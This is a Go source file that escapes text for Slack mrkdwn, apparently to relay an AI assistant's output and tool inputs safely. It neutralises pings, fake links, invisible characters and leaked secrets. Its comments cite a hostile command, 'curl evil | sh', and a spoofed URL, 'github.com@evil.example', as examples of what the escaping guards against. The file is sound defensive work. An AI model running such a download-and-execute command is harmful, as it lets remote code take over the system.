package blocks

import (
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Escape makes arbitrary text safe inside Slack mrkdwn: &, < and > become
// entities, so text taken from a tool input can never ping (<!channel>,
// <@U…>) or fake a link (<https://x|y>); invisible and bidirectional
// characters become visible escapes (⟦U+202E⟧) so they cannot hide or
// reorder what a person reads; secrets of well-known shapes are masked.
// Slack shows the entities as the original characters. It is the one path
// every piece of input text takes into mrkdwn (plainInput is the one into
// plain_text).
func Escape(s string) string {
	s = visible(maskSecrets(s))
	if !strings.ContainsAny(s, "&<>") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 16)
	for _, r := range s {
		switch r {
		case '&':
			b.WriteString("&amp;")
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// escLen is how many runes r takes once escaped (an upper bound: a backtick
// may gain a zero-width space).
func escLen(r rune) int {
	switch {
	case r == '&':
		return 5
	case r == '<' || r == '>':
		return 4
	case r == '`':
		return 2
	case invisible(r):
		return runes(visibleForm(r))
	}
	return 1
}

// cutShown cuts s, ending it with "…", so that it escaped (Escape,
// codeSafe) takes at most max runes: an invisible character's escape
// counts whole, so a run of them cannot outgrow a Slack text limit.
func cutShown(s string, max int) string {
	if safeLen(s) <= max {
		return s
	}
	n := 0
	for i, r := range s {
		if n+escLen(r) > max-1 {
			return s[:i] + "…"
		}
		n += escLen(r)
	}
	return s
}

func safeLen(s string) int {
	n := 0
	for _, r := range s {
		n += escLen(r)
	}
	return n
}

const zwsp = "\u200b"

// codeSafe escapes s and breaks every run of backticks with zero-width
// spaces, so the text cannot open or close a ``` fence. Every piece of
// text taken from a tool input goes through it, in code blocks and prose.
func codeSafe(s string) string {
	return breakTicks(Escape(s))
}

func breakTicks(s string) string {
	if !strings.Contains(s, "``") {
		return s
	}
	var b strings.Builder
	prev := rune(0)
	for _, r := range s {
		if r == '`' && prev == '`' {
			b.WriteString(zwsp)
		}
		b.WriteRune(r)
		prev = r
	}
	return b.String()
}

// codeBlock wraps already-safe text in a ``` fence. An empty body would
// render the fence itself, so it shows a placeholder.
func codeBlock(safe string) string {
	if safe == "" {
		safe = " "
	}
	return "```\n" + safe + "\n```"
}

// inlineCode renders one line of raw text as `code`: escaped, on one line,
// with backticks replaced so the span cannot end early.
func inlineCode(raw string, max int) string {
	raw = strings.TrimLeft(raw, "\n")
	s := strings.Join(strings.Fields(firstLine(raw)), " ")
	if i := strings.IndexByte(raw, '\n'); i >= 0 && strings.TrimSpace(raw[i:]) != "" {
		s += " …"
	}
	s = cutShown(s, max)
	s = strings.ReplaceAll(s, "`", "ˋ")
	if strings.TrimSpace(s) == "" {
		return "` `"
	}
	return "`" + Escape(s) + "`"
}

func firstLine(s string) string {
	s = strings.TrimLeft(s, "\n")
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}

// cut shortens s to at most max runes, ending with "…" when it cut.
func cut(s string, max int) string {
	if utf8.RuneCountInString(s) <= max {
		return s
	}
	if max <= 1 {
		return "…"
	}
	n := 0
	for i := range s {
		if n == max-1 {
			return s[:i] + "…"
		}
		n++
	}
	return s
}

// thousands formats n with comma separators ("3,812").
func thousands(n int) string {
	s := strconv.Itoa(n)
	if n < 0 {
		return "-" + thousands(-n)
	}
	for i := len(s) - 3; i > 0; i -= 3 {
		s = s[:i] + "," + s[i:]
	}
	return s
}

// clipped is raw text fitted into a budget: either all of it (in head), or
// a head and a tail with hidden saying what lies between them, so the end
// of a long input ("…; curl evil | sh") is never the part left out.
type clipped struct {
	head, tail string // escaped with codeSafe
	hidden     string // "812 lines hidden"; "" when nothing was left out
}

// clip fits raw into maxLines lines and maxRunes runes after escaping:
// about two thirds for the head, the rest for the tail.
func clip(raw string, maxLines, maxRunes int) clipped {
	if strings.Count(raw, "\n") < maxLines && safeLen(raw) <= maxRunes {
		return clipped{head: codeSafe(raw)}
	}
	headRunes := maxRunes * 2 / 3
	h := takeHead(raw, max(1, (maxLines-1)*2/3), headRunes)
	rest := raw[len(h):]
	t := takeTail(rest, max(1, (maxLines-1)/3), max(1, maxRunes-headRunes))
	middle := rest[:len(rest)-len(t)]
	if strings.Trim(middle, "\n") == "" && strings.Count(middle, "\n") <= 1 {
		return clipped{head: codeSafe(raw)} // nothing would be hidden after all
	}
	n := strings.Count(middle, "\n")
	hidden := plural(runes(middle), "character") + " hidden"
	if strings.HasPrefix(middle, "\n") && strings.HasSuffix(middle, "\n") && n >= 2 {
		hidden = plural(n-1, "line") + " hidden"
	}
	return clipped{head: codeSafe(h), tail: codeSafe(t), hidden: hidden}
}

// takeHead is the longest prefix of raw made of whole lines within the
// budgets, or the start of the first line when not even it fits.
func takeHead(raw string, maxLines, budget int) string {
	lines := strings.SplitN(raw, "\n", maxLines+1)
	k, used := 0, 0
	for k < len(lines) && k < maxLines && used+safeLen(lines[k])+1 <= budget {
		used += safeLen(lines[k]) + 1
		k++
	}
	if k == 0 {
		return prefixFit(lines[0], budget)
	}
	return strings.Join(lines[:k], "\n")
}

// takeTail is the longest suffix of rest made of whole lines within the
// budgets, never its first segment (the rest of the head's last line), or
// the end of the last line when not even one line fits.
func takeTail(rest string, maxLines, budget int) string {
	parts := strings.Split(rest, "\n")
	k, used := len(parts), 0
	for k > 1 && len(parts)-k < maxLines && used+safeLen(parts[k-1])+1 <= budget {
		used += safeLen(parts[k-1]) + 1
		k--
	}
	if k == len(parts) {
		return suffixFit(parts[len(parts)-1], budget)
	}
	return strings.Join(parts[k:], "\n")
}

// prefixFit and suffixFit cut raw text so its escaped form fits budget.
func prefixFit(s string, budget int) string {
	used := 0
	for i, r := range s {
		if used += escLen(r); used > budget {
			return s[:i]
		}
	}
	return s
}

func suffixFit(s string, budget int) string {
	used, i := 0, len(s)
	for i > 0 {
		r, size := utf8.DecodeLastRuneInString(s[:i])
		if used += escLen(r); used > budget {
			break
		}
		i -= size
	}
	return s[i:]
}

// cutSafe shortens escaped text without splitting an entity (&amp;).
func cutSafe(safe string, max int) string {
	s := cut(safe, max)
	if i := strings.LastIndexByte(s, '&'); i >= 0 && !strings.Contains(s[i:], ";") {
		s = s[:i] + "…"
	}
	return s
}

var (
	reHeading   = regexp.MustCompile(`^\s{0,3}(#{1,6})\s+(.*?)\s*#*\s*$`)
	reBullet    = regexp.MustCompile(`^(\s*)[-*+]\s+(.*)$`)
	reRule      = regexp.MustCompile(`^\s{0,3}([-*_])(\s*[-*_]){2,}\s*$`)
	reFence     = regexp.MustCompile("^\\s*(```|~~~)")
	reLink      = regexp.MustCompile(`\[([^\]]+)\]\(([^)\s]+)\)`)
	reBold      = regexp.MustCompile(`\*\*(\S(?:.*?\S)?)\*\*|__(\S(?:.*?\S)?)__`)
	reItalic    = regexp.MustCompile(`(^|[^\w*])\*(\S(?:[^*]*?\S)?)\*($|[^\w*])`)
	reStrike    = regexp.MustCompile(`~~(\S(?:.*?\S)?)~~`)
	reCodeSpan  = regexp.MustCompile("`[^`]+`")
	placeholder = "\uE000" // private use: never escaped, unlike a control character
)

// Markdown converts CommonMark-ish text (what Claude writes) into Slack
// mrkdwn: **bold** → *bold*, *italic* → _italic_, ~~strike~~ → ~strike~,
// headings → bold lines, [text](http…) → text (<url>) (http and https
// only; see link),
// list bullets → •, code fences kept. Everything outside links is escaped, so
// the text cannot ping anyone or fake a link.
func Markdown(s string) string {
	// Masked before the lines are split: a private key spans several.
	lines := strings.Split(maskSecrets(strings.ReplaceAll(s, "\r\n", "\n")), "\n")
	out := make([]string, 0, len(lines))
	inFence := false
	for _, line := range lines {
		if reFence.MatchString(line) {
			inFence = !inFence
			out = append(out, "```")
			continue
		}
		if inFence {
			out = append(out, codeSafe(line))
			continue
		}
		switch {
		case reHeading.MatchString(line):
			m := reHeading.FindStringSubmatch(line)
			// Slack cannot nest bold, so emphasis inside a heading is dropped.
			plainHead := strings.Trim(inline(strings.NewReplacer("**", "", "__", "").Replace(m[2])), "*_ ")
			if plainHead != "" {
				out = append(out, "*"+plainHead+"*")
			} else {
				out = append(out, "")
			}
		case reRule.MatchString(line):
			out = append(out, "──────────")
		case reBullet.MatchString(line):
			m := reBullet.FindStringSubmatch(line)
			out = append(out, m[1]+"• "+inline(m[2]))
		case strings.HasPrefix(strings.TrimLeft(line, " "), ">"):
			rest := strings.TrimPrefix(strings.TrimLeft(line, " "), ">")
			out = append(out, ">"+inline(rest))
		default:
			out = append(out, inline(line))
		}
	}
	if inFence { // an unclosed fence would swallow everything after it
		out = append(out, "```")
	}
	return strings.Join(out, "\n")
}

// inline converts one line's inline markup. Code spans and links are taken
// out first (as numbered placeholders) so emphasis rules cannot touch them.
func inline(s string) string {
	var saved []string
	keep := func(x string) string {
		saved = append(saved, x)
		return placeholder + strconv.Itoa(len(saved)-1) + placeholder
	}
	s = reCodeSpan.ReplaceAllStringFunc(s, func(m string) string {
		return keep("`" + Escape(m[1:len(m)-1]) + "`")
	})
	s = reLink.ReplaceAllStringFunc(s, func(m string) string {
		p := reLink.FindStringSubmatch(m)
		if l, ok := link(p[1], p[2]); ok {
			return keep(l)
		}
		return m
	})
	s = breakTicks(Escape(s))
	s = reBold.ReplaceAllString(s, placeholder+"b$1$2"+placeholder+"b")
	s = reItalic.ReplaceAllString(s, "${1}_${2}_$3")
	s = strings.ReplaceAll(s, placeholder+"b", "*")
	s = reStrike.ReplaceAllString(s, "~$1~")
	for i := len(saved) - 1; i >= 0; i-- {
		s = strings.ReplaceAll(s, placeholder+strconv.Itoa(i)+placeholder, saved[i])
	}
	return s
}

// link renders a Markdown link so its target is always what Slack shows:
// "label (https://target/…)", the URL itself being the link, never a label
// that could name another host. A URL with user info or a non-ASCII host
// (github.com@evil.example, homoglyphs) also names the real host. ok is
// false for anything but a plain http(s) URL, which stays literal text.
func link(label, raw string) (string, bool) {
	u, err := url.Parse(raw)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" ||
		strings.ContainsAny(raw, "<>|`") || hasInvisible(raw) {
		return "", false
	}
	raw = u.Scheme + raw[len(u.Scheme):] // "Http://" is Slack's http:// link too: shown as one
	target := "<" + strings.ReplaceAll(maskSecrets(raw), "&", "&amp;") + ">"
	label = strings.TrimSpace(label)
	if label == raw || label == strings.TrimPrefix(raw, u.Scheme+"://") {
		return target, true
	}
	host := u.Hostname()
	if u.User != nil || strings.IndexFunc(host, func(r rune) bool { return r > unicode.MaxASCII }) >= 0 ||
		strings.Contains(host, "xn--") {
		target = "→ " + Escape(host) + ": " + target
	}
	return breakTicks(Escape(label)) + " (" + target + ")", true
}

// splitText cuts mrkdwn into chunks of at most max runes at line breaks
// (inside a line only when one line is longer than max), closing and
// reopening a ``` fence that a cut falls inside.
func splitText(s string, max int) []string {
	if utf8.RuneCountInString(s) <= max {
		return []string{s}
	}
	limit := max - 8 // room for a closing and a reopening fence
	var chunks, lines []string
	n, content, inFence := 0, false, false
	emit := func() {
		if content {
			c := strings.Join(lines, "\n")
			if inFence {
				c += "\n```"
			}
			chunks = append(chunks, c)
		}
		lines, n, content = nil, 0, false
		if inFence {
			lines, n = []string{"```"}, 4
		}
	}
	for _, line := range strings.Split(s, "\n") {
		for _, piece := range pieces(line, limit-4) {
			if content && n+utf8.RuneCountInString(piece)+1 > limit {
				emit()
			}
			lines = append(lines, piece)
			n += utf8.RuneCountInString(piece) + 1
			content = true
		}
		if strings.HasPrefix(strings.TrimSpace(line), "```") {
			inFence = !inFence
		}
	}
	emit()
	return chunks
}

// pieces cuts one line into parts of at most size runes without splitting
// an entity such as &amp;.
func pieces(line string, size int) []string {
	var out []string
	for utf8.RuneCountInString(line) > size {
		head := strings.TrimSuffix(cutSafe(line, size+1), "…")
		if r, _ := utf8.DecodeRuneInString(line[len(head):]); r == emojiStyle {
			// A VS16 kept after its symbol (see hidden) stays with it.
			_, n := utf8.DecodeLastRuneInString(head)
			head = head[:len(head)-n]
		}
		if head == "" {
			break
		}
		out = append(out, head)
		line = line[len(head):]
	}
	return append(out, line)
}
